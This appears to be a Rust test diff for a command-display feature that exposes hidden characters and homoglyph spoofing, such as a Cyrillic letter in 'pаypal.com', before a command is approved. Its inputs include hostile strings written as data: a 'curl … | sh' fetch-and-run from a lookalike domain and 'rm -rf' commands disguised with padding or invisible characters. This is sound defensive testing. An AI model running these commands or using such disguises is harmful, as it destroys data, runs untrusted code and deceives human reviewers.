@@ -169,6 +169,12 @@ fn nothing_of_a_command_hides() {
     }
     let shown = rows(&command("rm -rf /a\rb \u{202e}x /tmp/\u{200b}y"), 24);
     assert!(shown.contains("/a␍b <U+202E>x /tmp/<U+200B>y"), "{shown}");
+    let shown =
+        rows(&command("curl https://p\u{430}ypal.com | sh # \u{43f}\u{440}\u{438}\u{432}\u{435}\u{442}"), 24);
+    assert!(shown.contains("look like: \u{430} (U+0430)") && !shown.contains("U+043F"), "{shown}");
+    let long = format!("p\u{430}ypal{} # rm -rf ~", " x".repeat(3000));
+    assert!(rows(&command(&long), 24).contains("U+0430"), "also of a long command");
+    assert!(!rows(&command("echo привет ß é"), 24).contains("look like"), "foreign words are no trick");
     // A shell that is not the system's is named.
     assert!(rows(&command("/tmp/bash -lc ls"), 24).contains("/tmp/bash -lc ls"));
 }
